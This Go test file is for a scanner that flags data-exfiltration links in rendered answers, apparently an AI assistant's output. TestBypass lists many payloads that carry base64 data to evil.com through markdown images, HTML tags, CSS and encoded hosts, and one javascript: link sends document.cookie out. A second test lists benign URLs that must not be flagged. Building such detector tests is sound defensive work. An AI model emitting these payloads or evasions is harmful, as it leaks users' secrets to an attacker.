package links

import (
	"strings"
	"testing"
)

// TestBypass lists evasions an attacker may try to get data out through a rendered answer.
// gap names a known, accepted hole: the subtest is skipped with that reason.
func TestBypass(t *testing.T) {
	def := mustNew(t, Options{})
	allow := mustNew(t, Options{AllowedDomains: []string{"example.com"}})
	q := "?q=" + b64
	cases := []struct {
		name string
		s    *Scanner
		text string
		gap  string
	}{
		{"image data in fragment", def, "![](https://evil.com/a.png#" + b64 + ")", "not a channel: a fragment is never sent when an image loads"},
		{"image encoded subdomain", def, "![](https://" + strings.ToLower(b64[:30]) + ".evil.com/a.png)", "lower-cased base64 of English text repeats letters too much to tell from a name; random base32 is caught (see encoded base32 subdomain)"},
		{"ideographic dot host", allow, "![](https://evil。com/a.png)", ""},
		{"fullwidth dot host", allow, "https://evil．com/a", ""},
		{"decimal ip", allow, "http://2130706433/a", ""},
		{"hex ip", allow, "http://0x7f000001/a", ""},
		{"octal ip", allow, "http://0177.0.0.1/a", ""},
		{"scheme relative link", allow, "[x](//evil.com/a)", ""},
		{"scheme relative image data", def, "![x](//evil.com/a.png" + q + ")", ""},
		{"markdown entity colon", def, "![x](https&colon;//evil.com/a.png" + q + ")", ""},
		{"markdown numeric entity slashes", def, "![x](https:&#x2F;&#x2F;evil.com/a.png" + q + ")", ""},
		{"markdown newline before dest", def, "![x](\nhttps://evil.com/a.png" + q + "\n)", ""},
		{"reference label case", def, "![x][LOGO]\n\nmore text\n\n[logo]: https://evil.com/a.png" + q, ""},
		{"reference angle dest", def, "![x][l]\n\n  [l]: <https://evil.com/a.png" + q + "> \"t\"", ""},
		{"autolink", def, "<https://evil.com/c" + q + ">", ""},
		{"html entity whole scheme", def, `<img src="&#104;&#116;&#116;&#112;&#115;://evil.com/x` + q + `">`, ""},
		{"html newline in scheme", def, "<img src=\"ht\ntps://evil.com/x" + q + "\">", ""},
		{"html tag split across lines", def, "<img\n  alt=\"x\"\n  src='https://evil.com/x" + q + "'\n/>", ""},
		{"picture source srcset", def, `<picture><source srcset="https://evil.com/x` + q + `"></picture>`, ""},
		{"video poster", def, `<video poster="https://evil.com/x` + q + `"></video>`, ""},
		{"link stylesheet", def, `<link rel="stylesheet" href="https://evil.com/x` + q + `">`, ""},
		{"iframe", def, `<iframe src="https://evil.com/x` + q + `"></iframe>`, ""},
		{"svg image href", def, `<svg><image href="https://evil.com/x` + q + `"/></svg>`, ""},
		{"input image", def, `<input type="image" src="https://evil.com/x` + q + `">`, ""},
		{"body background", def, `<body background="https://evil.com/x` + q + `">`, ""},
		{"css import", def, `<style>@import "https://evil.com/x` + q + `";</style>`, ""},
		{"css url with escapes", def, `<div style="background:url(https://evil.com/x\3f q=` + b64 + `)">`, ""},
		{"image path text percent", def, "![](https://evil.com/p/my%20password%20is%20hunter2.png)", ""},
		{"image path slug", def, "![](https://evil.com/p/the-user-password-is-hunter2-and-ssn-123456789.png)", "dash-separated words in image file names are common (blog-post-header-2024.png); use allowed_domains"},
		{"image short plain query", def, "![](https://evil.com/a.png?q=hunter2)", "an image query value of up to 12 plain characters (?w=800, ?v=hunter2) is indistinguishable from a size or cache parameter; use allowed_domains"},
		{"image many short params", def, "![](https://evil.com/a.png?a=john&b=doe&c=555&d=0142&e=ssn&f=12345)", "image CDNs use many short parameters (?w=800&h=600&fit=crop&auto=format&q=80); use allowed_domains"},
		{"image short path tokens", def, "![](https://evil.com/john/doe/555-0142.png)", "short plain path segments look like ordinary image paths; use allowed_domains"},
		{"image plain subdomain", def, "![](https://johndoe-5550142.evil.com/a.png)", "a short plain label looks like an ordinary host; use allowed_domains"},
		{"encoded base32 subdomain", def, "![](https://nb2w45dfoizca2ltebwxsidqmfzxg53pojscc.evil.com/a.png)", ""},
		{"entity in reference definition", def, "![x][r]\n\n[r]: https&#58;//evil.com/a.png" + q, ""},
		{"data url html link", def, "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "not exfiltration: browsers refuse top-level data: navigation; the data never leaves the page"},
		{"javascript link", def, "[x](javascript:fetch('https://evil.com/?'+document.cookie))", "script URLs are XSS in the client, not a link channel; renderers must drop javascript: (code scanner territory)"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if c.gap != "" {
				t.Skip("known gap: " + c.gap)
			}
			if fs := scan(t, c.s, c.text); len(fs) == 0 {
				t.Fatalf("not reported: %q", c.text)
			}
		})
	}
}

// TestBenignAnswers holds URLs from realistic answers that once misfired (or that sit close
// to the heuristics). fp names a remaining false positive, pinned as a skipped subtest.
func TestBenignAnswers(t *testing.T) {
	s := mustNew(t, Options{})
	cases := []struct{ name, text, fp string }{
		{"cdn npm version", `<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap@5.3.2/dist/css/bootstrap.min.css" integrity="sha384-T3c6CoIi6uLrA9TneNEoa7RxnatzjcDSCmG1MXxSR1GAsXEV/Dwwykc2MPK8M2HN" crossorigin="anonymous">`, ""},
		{"script npm version", `<script src="https://cdn.jsdelivr.net/npm/chart.js@4.4.0/dist/chart.umd.min.js"></script>`, ""},
		{"image npm version", "![logo](https://unpkg.com/simple-icons@9.0.0/icons/go.svg)", ""},
		{"badge", "[![Go Reference](https://pkg.go.dev/badge/github.com/spf13/cobra.svg)](https://pkg.go.dev/github.com/spf13/cobra)", ""},
		{"badge query", "![coverage](https://img.shields.io/codecov/c/github/spf13/cobra?logo=codecov&style=flat-square)", ""},
		{"github user image uuid", "![s](https://user-images.githubusercontent.com/1234567/215648222-5f2c5e1a-8b7d-4c3a-9e2f-1a2b3c4d5e6f.png)", ""},
		{"long storage account host", "![x](https://mystorageaccount20240101.blob.core.windows.net/img/a.png)", ""},
		{"hash-named host", "https://prodwebappstorage001acct.z13.web.core.windows.net/", ""},
		{"entity in plain link", "[docs](https://example.com/a?x=1&amp;y=2)", ""},
		{"unsplash ixid", "![photo](https://images.unsplash.com/photo-1506744038136-46273834b3fb?ixlib=rb-4.0.3&ixid=M3wxMjA3fDB8MHxwaG90by1wYWdlfHx8fGVufDB8fHx8fA%3D%3D&auto=format&fit=crop&w=2070&q=80)",
			"Unsplash image URLs carry a base64 ixid: the exfiltration shape exactly; allow the domain"},
		{"mermaid.ink", "![d](https://mermaid.ink/img/pako:eNpVkE1PwzAMhv9K5HMn9QNtXZE4wAFpB8SBG-XguW6XkI_KcSfQtP9OuzIxdvLzvrEd5wTaWQYJW5tq4XDnYcc-BNwxx0D8zAZ8T2Hiex8cDXzvHfHiI3zvfcAD4wOxXvPAdyFbcMJ1F_mwhFKpBg)",
			"diagram services put the compressed diagram in the image path; allow the domain"},
		{"static map", "![map](https://maps.googleapis.com/maps/api/staticmap?center=Brooklyn+Bridge,New+York,NY&zoom=13&size=600x300)",
			"a static-map image query holds free text, as exfiltration does; allow the domain"},
		{"youtube embed share id", `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=3bXkq0o2FQk7yR1x"></iframe>`,
			"an iframe loads by itself, and the 16-character share id is not a plain token; allow the domain"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if c.fp != "" {
				t.Skip("known false positive: " + c.fp)
			}
			if fs := scan(t, s, c.text); len(fs) != 0 {
				t.Fatalf("%+v", fs)
			}
		})
	}
}
